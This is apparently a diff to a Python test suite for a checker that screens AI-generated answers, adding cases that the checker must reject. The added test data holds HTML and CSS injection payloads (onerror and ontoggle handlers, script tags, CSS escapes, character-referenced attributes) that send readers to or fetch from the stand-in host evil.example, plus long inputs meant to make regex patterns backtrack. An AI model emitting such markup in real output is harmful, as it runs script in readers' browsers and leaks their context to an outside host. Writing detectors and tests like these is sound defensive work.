@@ -443,7 +443,7 @@ ADVERSARIAL = {  # 200 KB inputs that took minutes (or hours) when a pattern bac
     "dots": "." * 200_000 + "x", "abbreviations": "Mr. " * 50_000, "word before": "A" * 200_000 + "1. X",
     "table": "- " + " " * 200_000 + "-x", "date": "1" + " " * 200_000 + "x", "leet": "!1" * 100_000,
     "leet letters": "a!" * 100_000, "reference": "[r]:" + " " * 200_000, "autolink": "<ab:" * 50_000,
-    "srcset": '<img srcset="' + "a," * 100_000,
+    "srcset": '<img srcset="' + "a," * 100_000, "handler": "<a o" + "n" * 200_000,
 }
 
 
@@ -485,6 +485,32 @@ def test_reference_definitions_autolinks_and_address_attributes_are_judged_like_
     for harmless in ["[r] [1].\n\n[r]: #travel", '<a href="policy.pdf#travel">policy</a> [1].',
                      '<img srcset="reports/2024.pdf 1x, reports/2024.pdf 2x"> [1].']:
         assert check_generated(NIGHTLY + harmless, LINKED, {1, 2}) is None, harmless
+
+
+@pytest.mark.parametrize(("markup", "reason"), [
+    ('<img src=x onerror=location=atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGU=")>', "active_markup"),
+    ('<details open ontoggle=fetch(atob("Ly9ldmlsLmV4YW1wbGU="))>', "active_markup"),
+    ('<script>location=atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGU=")</script>', "active_markup"),
+    ('<div style="background:url(\\2f\\2f evil.example/x)">', "active_markup"),  # a CSS escape
+    ('<style>@import "\\2f\\2f evil.example/x";</style>', "active_markup"),
+    ('<iframe srcdoc="&lt;b&gt;180&lt;/b&gt;">', "active_markup"),
+    ('<object data="&#x2F;&#x2F;evil.example/x">', "url_outside_context"),  # character references, any attribute
+    ('<button formaction="&#x2F;&#x2F;evil.example/x">', "url_outside_context"),
+    ('<a ping="&#x2F;&#x2F;evil.example/x">x</a>', "url_outside_context"),
+    ('<table background="&#x2F;&#x2F;evil.example/x">', "url_outside_context"),
+    ('<svg><a xlink:href="&#x2F;&#x2F;evil.example/x"><text>t</text></a></svg>', "url_outside_context"),
+])
+def test_markup_that_runs_styles_or_hides_an_address_makes_a_generated_answer_unusable(markup: str,
+                                                                                       reason: str) -> None:
+    """A client rendering the answer's HTML fetched an address a script, handler or style built, or one written with
+    character references in an attribute no check read: the answer's context could leave in it."""
+    assert check_generated(f"Hotels are reimbursed up to 180 euros per night {markup} [1].", GIVEN, {1, 2}) == reason
+
+
+@pytest.mark.parametrize("prose", ["Set style = compact for the report", "The onboarding=done flag is set"])
+def test_handler_or_style_words_in_prose_are_no_markup(prose: str) -> None:
+    assert check_generated(f"Hotels are reimbursed up to 180 euros per night [1]. {prose} [1].",
+                           {1: GIVEN[1] + f" {prose}.", 2: GIVEN[2]}, {1, 2}) is None
 
 
 def test_a_bare_yes_or_no_needs_no_support_but_a_claim_beside_it_does() -> None:
